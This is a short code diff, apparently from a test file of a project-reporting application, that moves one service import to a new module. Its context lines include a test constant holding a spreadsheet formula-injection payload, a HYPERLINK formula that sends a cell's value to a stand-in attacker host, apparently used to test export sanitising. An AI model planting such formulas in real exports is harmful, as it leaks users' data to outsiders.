@@ -24,7 +24,6 @@ from keyprojects.dataio.exports import TEMPLATE_COLUMNS, TEMPLATE_HEADER_ROW, di
 from keyprojects.dispatch.models import MonthlyReport
 from keyprojects.dispatch.services import (
     period_close,
-    problem_create,
     report_acknowledge,
     report_review,
     report_save,
@@ -33,6 +32,7 @@ from keyprojects.dispatch.services import (
     revision_request,
     warnings_refresh,
 )
+from keyprojects.dispatch.services_problems import problem_create
 from keyprojects.projects.models import Project, ProjectYear
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
